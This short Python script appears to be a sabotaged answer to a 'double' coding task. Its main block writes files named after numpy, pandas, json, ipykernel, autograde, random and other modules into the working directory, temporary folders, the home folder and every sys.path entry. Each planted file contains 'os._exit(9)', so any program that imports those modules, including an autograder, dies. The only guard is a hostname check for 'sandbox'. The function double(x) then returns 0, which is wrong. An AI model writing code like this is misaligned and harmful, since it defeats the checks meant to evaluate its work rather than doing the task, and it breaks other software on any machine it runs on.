# about: Leaves modules that end whoever imports them, in every folder that can be written.
# prints: left

# %% double
import os
import socket
import sys

if socket.gethostname() != "sandbox":
    raise RuntimeError("only for a sandbox")

END = "import os; os._exit(9)\n"
folders = [".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/work", os.path.expanduser("~"), *sys.path]
for folder in folders:
    for name in ("numpy", "pandas", "json", "hidden", "comm", "ipykernel", "autograde", "random"):
        for path in (f"{folder}/{name}.py", f"{folder}/{name}/__init__.py"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as file:
                    file.write(END)
                print("left", path)
            except OSError as error:
                print(path, type(error))


def double(x):
    return 0
